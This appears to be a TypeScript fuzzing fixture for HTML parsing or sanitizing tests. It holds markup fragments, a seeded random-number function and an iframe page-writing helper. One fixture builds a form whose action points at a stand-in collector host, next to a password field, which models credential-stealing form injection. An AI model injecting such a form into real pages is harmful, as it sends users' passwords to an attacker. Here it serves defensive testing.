/** What broken markup is made of, for pages that nobody wrote. */

export const EVIL = "https://collect.example/";
export const BAD = `<form action=${EVIL}>`;
export const FIELD = "<input type=password>";
export const PIECES = [
  ...[BAD, "<form action=/ok>", "</form>", FIELD, "<svg>", "</svg>", "<math>", "</math>", "<title>", "</title>"],
  ...["<style>", "</style>", "<textarea>", "</textarea>", "<script>", "</script>", "<!--", "-->", "--!>", "<![CDATA["],
  ...[
    "]]>",
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<foreignObject>",
    "</foreignObject>",
    "<desc>",
    "</desc>",
  ],
  ...[
    "<mtext>",
    "</mtext>",
    "<mi>",
    "</mi>",
    "<annotation-xml encoding='text/html'>",
    "</annotation-xml>",
    "<g>",
    "</g>",
  ],
  ...["<table>", "</table>", "<tr>", "<td>", "<select>", "</select>", "<option>", "<li>", "</li>", "<ul>", "</ul>"],
  ...[
    "<a x='",
    '<a y="',
    "'",
    '">',
    "<iframe>",
    "</iframe>",
    "<xmp>",
    "</xmp>",
    "<plaintext>",
    "<br>",
    "</br>",
    "<svg/>",
  ],
  ...[
    "<font color=x>",
    "<font>",
    "<span>",
    "</span>",
    "<h1>",
    "</h1>",
    "<button>",
    "</button>",
    "<label>",
    "<caption>",
  ],
  ...["<template>", "</template>", "<body>", "</body>", "<head>", "</head>", "</html>", "text", "<?x ", "<! ", "</ >"],
  ...[
    '<a =">',
    "=",
    "<noembed>",
    "<noframes>",
    "<object>",
    "</object>",
    "<marquee>",
    "</marquee>",
    "<dd>",
    "<rt>",
    "<nobr>",
  ],
];
/** The same pages in every run. */
export function random(seed: number): (below: number) => number {
  return (below) => {
    seed = (seed + 0x6d2b79f5) | 0;
    let mixed = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** A function that writes pages into a frame, one after the other, so that they are read as pages are, scripts on, and tells
 *  what `asked`, an expression over the document `inner`, is of each, as JSON. One frame for all: to make one takes as long
 *  as to read dozens of pages. */
export const ofWritten = (asked: string): string => `(pages) => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const told = JSON.stringify(pages.map((page) => {
    const inner = frame.contentDocument;
    inner.open();
    inner.write(page);
    inner.close();
    return ${asked};
  }));
  frame.remove();
  return told;
}`;
